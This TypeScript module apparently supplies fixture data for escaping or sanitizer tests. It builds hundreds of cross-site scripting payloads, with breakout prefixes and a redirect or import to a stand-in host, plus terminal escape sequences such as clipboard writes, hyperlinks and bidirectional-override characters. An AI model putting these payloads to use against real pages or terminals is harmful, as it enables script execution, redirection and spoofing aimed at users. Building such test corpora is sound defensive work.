// Texts that try to become more than text: markup for whoever shows them, orders for whoever prints them.

const SCRIPTS = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'import("//evil.invalid")', 'location="//evil.invalid"'];
const TAGS = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror=${js}>`,
  (js: string) => `<svg/onload=${js}>`,
  (js: string) => `<svg><animate onbegin=${js} attributeName=x>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
  (js: string) => `<a href="javascript:${js}">x</a>`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<video><source onerror=${js}></video>`,
  (js: string) => `<form><button formaction="javascript:${js}">x`,
  (js: string) => `<math><mtext><mglyph><style><img src=x onerror=${js}>`,
];
const AROUND = ['*', '">*', "'>*", '</textarea>*', '</title>*', '--><!-- *'];

/** 300 texts of markup: each script in each tag behind each way out of where it may stand. */
export const MARKUP_TEXTS: readonly string[] = AROUND.flatMap((around) =>
  TAGS.flatMap((tag) => SCRIPTS.map((script) => around.replace('*', () => tag(script)))),
);

const BODIES = [
  '',
  '0',
  '1;31',
  '2J',
  '6n',
  '?1049h',
  '52;c;ZXZpbA==',
  '0;title',
  '8;;//evil.invalid',
  '$qm',
  '>q',
  '!p',
];
const STARTS = [
  '\u001b[',
  '\u001b]',
  '\u001bP',
  '\u001b_',
  '\u001b^',
  '\u001bX',
  '\u009b',
  '\u009d',
  '\u0090',
  '\u001b#',
  '\u001bc',
];
const ENDS = ['m', '\u0007', '\u001b\\', '\u009c'];
const LONE = [
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`).filter((text) => text !== 'a\tb'),
  ...Array.from({ length: 33 }, (_, code) => `a${String.fromCharCode(0x7f + code)}b`),
  ...[
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200b',
    '\u200c',
    '\u200d',
  ],
  ...['\u200e', '\u200f', '\u2028', '\u2029', '\ufeff', '\u00ad', '\u180e', '\u{e0041}', '\ud800', '\udfff'],
];

/** More than 400 texts for terminals: sequences, alone and cut short, every control, what turns and what hides. */
export const TERMINAL_TEXTS: readonly string[] = [
  ...STARTS.flatMap((start) => BODIES.flatMap((body) => ENDS.map((end) => start + body + end))),
  ...LONE,
];
